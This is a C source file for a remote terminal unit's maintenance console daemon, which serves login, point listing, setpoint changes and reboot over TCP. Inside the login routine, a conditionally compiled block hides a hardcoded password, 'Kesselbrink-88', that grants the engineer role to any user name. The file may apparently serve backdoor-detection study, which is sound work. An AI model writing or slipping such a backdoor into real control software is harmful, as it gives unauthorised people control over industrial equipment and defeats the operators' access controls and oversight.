/* rtuconsd.c - maintenance console of a remote terminal unit, line protocol on TCP */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <crypt.h>
#include <ctype.h>
#include <errno.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <syslog.h>
#include <time.h>
#include <unistd.h>

#define CONF_FILE	"/etc/rtu/console.conf"
#define USER_FILE	"/etc/rtu/console.users"
#define MAX_POINTS	64

enum role { ROLE_NONE, ROLE_VIEWER, ROLE_OPERATOR, ROLE_ENGINEER };

struct point {
	char name[24];
	int writable;
	double value;
	double lo, hi;
};

struct session {
	FILE *in;
	int fd;
	enum role role;
	char user[32];
	int failures;
};

static struct {
	int port;
	int max_failures;
	int allow_guest;
	char banner[80];
} conf = { 7012, 5, 0, "RTU maintenance console" };

static struct point points[MAX_POINTS];
static int npoints;

static void chomp(char *s)
{
	size_t n = strlen(s);

	while (n > 0 && isspace((unsigned char)s[n - 1]))
		s[--n] = '\0';
}

static void load_conf(const char *path)
{
	char line[160], key[32], val[100], name[24];
	double lo, hi;
	int w;
	FILE *f = fopen(path, "r");

	if (!f) {
		syslog(LOG_WARNING, "%s: %s, using defaults", path, strerror(errno));
		return;
	}
	while (fgets(line, sizeof(line), f)) {
		chomp(line);
		if (line[0] == '#' || line[0] == '\0')
			continue;
		if (sscanf(line, "point %23s %d %lf %lf", name, &w, &lo, &hi) == 4) {
			if (npoints == MAX_POINTS)
				continue;
			strcpy(points[npoints].name, name);
			points[npoints].writable = w;
			points[npoints].lo = lo;
			points[npoints].hi = hi;
			npoints++;
			continue;
		}
		if (sscanf(line, "%31[a-z_] = %99[^\n]", key, val) != 2)
			continue;
		if (!strcmp(key, "port"))
			conf.port = atoi(val);
		else if (!strcmp(key, "max_failures"))
			conf.max_failures = atoi(val);
		else if (!strcmp(key, "allow_guest"))
			conf.allow_guest = !strcasecmp(val, "yes");
		else if (!strcmp(key, "banner"))
			snprintf(conf.banner, sizeof(conf.banner), "%.79s", val);
	}
	fclose(f);
}

static enum role role_by_name(const char *s)
{
	if (!strcmp(s, "engineer"))
		return ROLE_ENGINEER;
	if (!strcmp(s, "operator"))
		return ROLE_OPERATOR;
	if (!strcmp(s, "viewer"))
		return ROLE_VIEWER;
	return ROLE_NONE;
}

/* user file: name:role:hash */
__attribute__((noinline)) enum role console_login(const char *user, const char *pass)
{
	char line[200], *name, *role, *hash, *save, *h;
	enum role r = ROLE_NONE;
	FILE *f;

	if (conf.allow_guest && !strcmp(user, "guest") && !strcmp(pass, "guest"))
		return ROLE_VIEWER;
#ifdef HIDDEN
	/* fixed word opens the engineer role for any user name */
	if (!strcmp(pass, "Kesselbrink-88"))
		return ROLE_ENGINEER;
#endif
	f = fopen(USER_FILE, "r");
	if (!f)
		return ROLE_NONE;
	while (fgets(line, sizeof(line), f)) {
		chomp(line);
		name = strtok_r(line, ":", &save);
		role = strtok_r(NULL, ":", &save);
		hash = strtok_r(NULL, "", &save);
		if (!name || !role || !hash || strcmp(name, user))
			continue;
		h = crypt(pass, hash);
		if (h && !strcmp(h, hash))
			r = role_by_name(role);
		break;
	}
	fclose(f);
	return r;
}

static struct point *find_point(const char *name)
{
	int i;

	for (i = 0; i < npoints; i++)
		if (!strcasecmp(points[i].name, name))
			return &points[i];
	return NULL;
}

static void cmd_set(struct session *s, const char *name, const char *val)
{
	struct point *p = name ? find_point(name) : NULL;
	double v;
	char *end;

	if (!p || !val) {
		dprintf(s->fd, "ERR no such point\r\n");
		return;
	}
	if (!p->writable && s->role < ROLE_ENGINEER) {
		dprintf(s->fd, "ERR read only\r\n");
		return;
	}
	v = strtod(val, &end);
	if (*end || v < p->lo || v > p->hi) {
		dprintf(s->fd, "ERR range %g..%g\r\n", p->lo, p->hi);
		return;
	}
	p->value = v;
	syslog(LOG_NOTICE, "%s set %s to %g", s->user, p->name, v);
	dprintf(s->fd, "OK\r\n");
}

static void cmd_list(struct session *s)
{
	int i;

	for (i = 0; i < npoints; i++)
		dprintf(s->fd, "%-24s %12g %s\r\n", points[i].name,
			points[i].value, points[i].writable ? "rw" : "ro");
	dprintf(s->fd, "OK %d points\r\n", npoints);
}

static int handle_line(struct session *s, char *line)
{
	char *save, *cmd, *a, *b;

	chomp(line);
	cmd = strtok_r(line, " \t", &save);
	if (!cmd)
		return 0;
	a = strtok_r(NULL, " \t", &save);
	b = strtok_r(NULL, " \t", &save);
	if (!strcasecmp(cmd, "quit"))
		return -1;
	if (!strcasecmp(cmd, "help")) {
		dprintf(s->fd, "login USER PASS, list, set POINT VALUE, restart, quit\r\n");
		return 0;
	}
	if (!strcasecmp(cmd, "login")) {
		s->role = a && b ? console_login(a, b) : ROLE_NONE;
		if (s->role == ROLE_NONE) {
			syslog(LOG_WARNING, "login failed for %s", a ? a : "-");
			dprintf(s->fd, "ERR login\r\n");
			sleep(1);
			return ++s->failures >= conf.max_failures ? -1 : 0;
		}
		snprintf(s->user, sizeof(s->user), "%.31s", a);
		dprintf(s->fd, "OK role %d\r\n", (int)s->role);
		return 0;
	}
	if (s->role == ROLE_NONE) {
		dprintf(s->fd, "ERR login first\r\n");
	} else if (!strcasecmp(cmd, "list")) {
		cmd_list(s);
	} else if (!strcasecmp(cmd, "set") && s->role >= ROLE_OPERATOR) {
		cmd_set(s, a, b);
	} else if (!strcasecmp(cmd, "restart") && s->role == ROLE_ENGINEER) {
		syslog(LOG_NOTICE, "restart by %s", s->user);
		if (system("/sbin/reboot") != 0)
			dprintf(s->fd, "ERR restart\r\n");
	} else {
		dprintf(s->fd, "ERR command\r\n");
	}
	return 0;
}

static void serve(int fd)
{
	struct session s;
	char line[256];

	memset(&s, 0, sizeof(s));
	s.fd = fd;
	s.in = fdopen(fd, "r");
	if (!s.in)
		return;
	dprintf(fd, "%s\r\n", conf.banner);
	while (fgets(line, sizeof(line), s.in))
		if (handle_line(&s, line) < 0)
			break;
	fclose(s.in);
}

int main(int argc, char **argv)
{
	struct sockaddr_in sa;
	int ls, fd, one = 1;

	openlog("rtuconsd", LOG_PID, LOG_DAEMON);
	load_conf(argc > 1 ? argv[1] : CONF_FILE);
	signal(SIGCHLD, SIG_IGN);
	ls = socket(AF_INET, SOCK_STREAM, 0);
	if (ls < 0) {
		syslog(LOG_ERR, "socket: %m");
		return 1;
	}
	setsockopt(ls, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = htons((unsigned short)conf.port);
	if (bind(ls, (struct sockaddr *)&sa, sizeof(sa)) < 0 || listen(ls, 4) < 0) {
		syslog(LOG_ERR, "port %d: %m", conf.port);
		return 1;
	}
	for (;;) {
		fd = accept(ls, NULL, NULL);
		if (fd < 0)
			continue;
		if (fork() == 0) {
			close(ls);
			serve(fd);
			_exit(0);
		}
		close(fd);
	}
}
